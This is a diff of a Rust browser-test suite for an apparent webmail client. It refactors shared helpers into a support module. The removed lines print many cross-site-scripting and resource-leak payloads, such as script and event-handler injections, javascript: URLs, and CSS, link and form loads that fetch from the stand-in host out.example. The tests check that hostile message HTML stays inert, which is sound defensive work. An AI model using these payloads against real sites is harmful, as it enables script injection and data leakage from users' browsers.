@@ -6,21 +6,9 @@ use base64::Engine;
 use base64::engine::general_purpose::STANDARD;
 use serde_json::{Value, json};
 
-use crate::support::browser::{Beacon, Browser};
+use crate::support::browser::{Browser, browser};
+use crate::support::hostile::{assert_nothing_sent, hostile_html, hostile_names};
 use crate::support::inbox::Gateway;
-
-/// The names of the hostile recipients that other tests use too.
-pub(crate) fn hostile_names() -> Vec<String> {
-    let path = concat!(
-        env!("CARGO_MANIFEST_DIR"),
-        "/tests/fixtures/recipients/20_xss.csv"
-    );
-    let mut reader = csv::Reader::from_path(path).expect("the recipients");
-    let names = reader
-        .records()
-        .map(|row| row.expect("a row")[1].to_owned());
-    names.collect()
-}
 
 /// Texts for every place that shows one.
 fn hostile_texts(out: &str) -> Vec<String> {
@@ -38,46 +26,6 @@ fn hostile_texts(out: &str) -> Vec<String> {
         "a\"b' tag:\"x".to_owned(),
     ]);
     texts
-}
-
-/// HTML that tries to run, to load, to post or to go somewhere.
-pub(crate) fn hostile_html(out: &str) -> Vec<String> {
-    let run = format!(
-        "top.__xss=1;window.__xss=1;fetch('http://{out}/run');new Image().src='http://{out}/run'"
-    );
-    let cut = run.replace('"', "&quot;");
-    [
-        "<script>RUN</script>",
-        "<img src=x onerror=\"RUN\"><body onload=\"RUN\"><input autofocus onfocus=\"RUN\">",
-        "<svg onload=\"RUN\"><script>RUN</script><image href=http://OUT/svg /></svg>",
-        "<math><mtext></form><form><mglyph><style></math><img src onerror=\"RUN\">",
-        "<svg></p><style><a id=\"</style><img src=1 onerror='RUN'>\">",
-        "<iframe src=\"javascript:RUN\"></iframe><iframe src=http://OUT/frame></iframe><iframe srcdoc=\"<script>RUN</script>\"></iframe>",
-        "<meta http-equiv=refresh content=\"0;url=http://OUT/refresh\">",
-        "<meta http-equiv=Content-Security-Policy content=\"img-src *\"><img src=http://OUT/img>",
-        "<base href=http://OUT/><img src=base.png><a href=x>x</a>",
-        "<link rel=preconnect href=http://OUT><link rel=dns-prefetch href=http://OUT><link rel=prefetch href=http://OUT/p>\
-         <link rel=preload as=image href=http://OUT/p><link rel=prerender href=http://OUT/p><link rel=stylesheet href=http://OUT/css>\
-         <link rel=modulepreload href=http://OUT/p><link rel=icon href=http://OUT/icon><link rel=manifest href=http://OUT/m>",
-        "<noscript><link rel=preconnect href=http://OUT></noscript><svg><style><p><link rel=preconnect href=http://OUT></style></svg>",
-        "<img src=http://OUT/img srcset=\"http://OUT/1x 1x, http://OUT/2x 2x\"><picture><source srcset=http://OUT/source><img></picture>",
-        "<style>@import url(http://OUT/import);@font-face{font-family:f;src:url(http://OUT/font)}\
-         body{background:url(http://OUT/bg);font-family:f}p::before{content:url(http://OUT/content)}</style><p>x</p>",
-        "<p style=\"background-image:url(http://OUT/style);cursor:url(http://OUT/cursor),auto;list-style:url(http://OUT/list)\">x</p>",
-        "<table background=http://OUT/table><tr><td background=http://OUT/td>x</table><body background=http://OUT/body>",
-        "<video src=http://OUT/video poster=http://OUT/poster autoplay></video><audio src=http://OUT/audio autoplay></audio>\
-         <object data=http://OUT/object></object><embed src=http://OUT/embed><track src=http://OUT/track>",
-        "<form id=f action=http://OUT/form method=post><input name=a value=b><input type=image src=http://OUT/input></form><script>f.submit()</script>",
-        "<a href=\"javascript:RUN\" id=link>x</a><area href=\"javascript:RUN\"><a href=http://OUT/ping ping=http://OUT/ping>x</a>",
-        "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"http://OUT/rules\"]}]}</script>",
-        "<template shadowrootmode=open><script>RUN</script><img src=http://OUT/shadow></template><div><template shadowrootmode=open><img src=x onerror=\"RUN\"></template></div>",
-        "<img src=\"cid:x\"><img src=\"cid:../../x\"><img src=\"CID:%00\"><img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><image href='http://OUT/inner'/></svg>\">",
-        "<plaintext><script>RUN</script>",
-        "<!--><img src=x onerror=\"RUN\">--><![CDATA[<img src=x onerror=\"RUN\">]]><?xml version=1.0?><xml>x</xml>",
-        "<details open ontoggle=\"RUN\">x</details><marquee onstart=\"RUN\">x</marquee><dialog open>x</dialog><button popovertarget=p onclick=\"RUN\">x</button>",
-    ]
-    .map(|html| html.replace("RUN", &cut).replace("OUT", out))
-    .to_vec()
 }
 
 /// Asserts that nothing of a message has run in the page.
@@ -109,26 +57,9 @@ fn look_at_all(browser: &Browser, gateway: &Gateway, uid: &str, what: &str) {
     assert_still(browser, what);
 }
 
-/// Asserts that nothing has connected to anywhere but the gateway.
-#[track_caller]
-pub(crate) fn assert_nothing_left(browser: &Browser, beacon: &Beacon) {
-    assert_eq!(beacon.seen_until_now(), Vec::<String>::new());
-    // The beacon sees what leaves. A busy browser makes a second connection for it, with nothing on it.
-    browser.go("http://out.example/control");
-    let mut seen = beacon.seen();
-    seen.retain(|line| line.starts_with("GET "));
-    assert_eq!(
-        seen.first().map(String::as_str),
-        Some("GET /control HTTP/1.1")
-    );
-}
-
 #[test]
 fn hostile_texts_are_texts_wherever_they_stand() {
-    let beacon = Beacon::start();
-    let Some(browser) = Browser::start(&beacon) else {
-        return;
-    };
+    let Some(browser) = browser() else { return };
     let gateway = Gateway::start();
     let texts = hostile_texts("out.example");
     for (number, text) in texts.iter().enumerate() {
@@ -208,15 +139,12 @@ fn hostile_texts_are_texts_wherever_they_stand() {
             "{path}"
         );
     }
-    assert_nothing_left(&browser, &beacon);
+    assert_nothing_sent(&browser);
 }
 
 #[test]
 fn hostile_html_does_nothing_and_loads_nothing() {
-    let beacon = Beacon::start();
-    let Some(browser) = Browser::start(&beacon) else {
-        return;
-    };
+    let Some(browser) = browser() else { return };
     let gateway = Gateway::start();
     let bodies = hostile_html("out.example");
     for html in &bodies {
@@ -252,15 +180,12 @@ fn hostile_html_does_nothing_and_loads_nothing() {
         );
     }
     assert_eq!(browser.windows(), 1);
-    assert_nothing_left(&browser, &beacon);
+    assert_nothing_sent(&browser);
 }
 
 #[test]
 fn remote_images_are_loaded_when_they_are_asked_for_and_nothing_else_is() {
-    let beacon = Beacon::start();
-    let Some(browser) = Browser::start(&beacon) else {
-        return;
-    };
+    let Some(browser) = browser() else { return };
     let gateway = Gateway::start();
     let html = "<img id=far src=http://out.example/image referrerpolicy=unsafe-url><link rel=stylesheet href=http://out.example/css>\
                 <iframe src=http://out.example/frame></iframe>\
@@ -276,16 +201,17 @@ fn remote_images_are_loaded_when_they_are_asked_for_and_nothing_else_is() {
         browser.eval_in("#frame", "return document.querySelector('#far').complete"),
         true
     );
-    assert_eq!(beacon.seen_until_now(), Vec::<String>::new());
+    assert_eq!(browser.beacon().seen_until_now(), Vec::<String>::new());
     browser
         .keys(&["i"])
         .until("document.querySelector('#images').checked && location.search.includes('images=1')");
     let begun = std::time::Instant::now();
-    while beacon.seen().iter().all(String::is_empty) {
+    while browser.beacon().seen().iter().all(String::is_empty) {
         assert!(begun.elapsed().as_secs() < 30, "the image is not loaded");
         std::thread::sleep(std::time::Duration::from_millis(20));
     }
-    let lines: Vec<_> = beacon
+    let lines: Vec<_> = browser
+        .beacon()
         .seen()
         .into_iter()
         .filter(|line| !line.is_empty())
@@ -318,10 +244,7 @@ const TITLE: &str = "document.querySelector('article h1')?.textContent";
 
 #[test]
 fn the_keyboard_does_everything() {
-    let beacon = Beacon::start();
-    let Some(browser) = Browser::start(&beacon) else {
-        return;
-    };
+    let Some(browser) = browser() else { return };
     let gateway = Gateway::start();
     three(&browser, &gateway);
     let title = |wanted: &str| {
@@ -395,10 +318,7 @@ fn the_keyboard_does_everything() {
 
 #[test]
 fn the_keys_work_after_a_click_into_the_message() {
-    let beacon = Beacon::start();
-    let Some(browser) = Browser::start(&beacon) else {
-        return;
-    };
+    let Some(browser) = browser() else { return };
     let gateway = Gateway::start();
     three(&browser, &gateway);
     browser.keys(&["j"]).until(&format!(
@@ -431,10 +351,7 @@ fn the_keys_work_after_a_click_into_the_message() {
 
 #[test]
 fn what_is_deleted_is_asked_for_first() {
-    let beacon = Beacon::start();
-    let Some(browser) = Browser::start(&beacon) else {
-        return;
-    };
+    let Some(browser) = browser() else { return };
     let gateway = Gateway::start();
     three(&browser, &gateway);
     browser.keys(&["j"]).until(&format!("{TITLE} === 'Three'"));
@@ -462,10 +379,7 @@ fn what_is_deleted_is_asked_for_first() {
 
 #[test]
 fn each_question_gets_its_own_answer() {
-    let beacon = Beacon::start();
-    let Some(browser) = Browser::start(&beacon) else {
-        return;
-    };
+    let Some(browser) = browser() else { return };
     let gateway = Gateway::start();
     three(&browser, &gateway);
     // The second comes before the page is told that the first is closed.
@@ -489,10 +403,7 @@ fn each_question_gets_its_own_answer() {
 
 #[test]
 fn all_that_is_looked_at_is_in_the_url() {
-    let beacon = Beacon::start();
-    let Some(browser) = Browser::start(&beacon) else {
-        return;
-    };
+    let Some(browser) = browser() else { return };
     let gateway = Gateway::start();
     three(&browser, &gateway);
     browser
@@ -518,10 +429,7 @@ fn all_that_is_looked_at_is_in_the_url() {
 
 #[test]
 fn what_arrives_is_shown_at_once() {
-    let beacon = Beacon::start();
-    let Some(browser) = Browser::start(&beacon) else {
-        return;
-    };
+    let Some(browser) = browser() else { return };
     let gateway = Gateway::start();
     browser.go(&gateway.site.url("/")).until("!document.querySelector('#empty').hidden && document.querySelector('#live').dataset.live === 'yes'");
     three(&browser, &gateway);
@@ -549,10 +457,7 @@ fn what_arrives_is_shown_at_once() {
 
 #[test]
 fn what_arrives_while_the_list_is_fetched_is_shown_too() {
-    let beacon = Beacon::start();
-    let Some(browser) = Browser::start(&beacon) else {
-        return;
-    };
+    let Some(browser) = browser() else { return };
     let gateway = Gateway::start();
     browser.go(&gateway.site.url("/")).until("!document.querySelector('#empty').hidden && document.querySelector('#live').dataset.live === 'yes'");
     // Answers for the list come a while after they were made; the page says when one was.
@@ -581,10 +486,7 @@ fn what_arrives_while_the_list_is_fetched_is_shown_too() {
 
 #[test]
 fn a_long_list_is_scrolled_and_drawn_in_part() {
-    let beacon = Beacon::start();
-    let Some(browser) = Browser::start(&beacon) else {
-        return;
-    };
+    let Some(browser) = browser() else { return };
     let gateway = Gateway::start();
     for batch in 0..3 {
         let mut fields: Vec<(String, String)> = vec![("text".into(), "x".into())];
@@ -618,10 +520,7 @@ fn a_long_list_is_scrolled_and_drawn_in_part() {
 
 #[test]
 fn a_narrow_window_shows_one_thing_at_a_time() {
-    let beacon = Beacon::start();
-    let Some(browser) = Browser::start(&beacon) else {
-        return;
-    };
+    let Some(browser) = browser() else { return };
     let gateway = Gateway::start();
     browser.size(500, 800);
     three(&browser, &gateway);
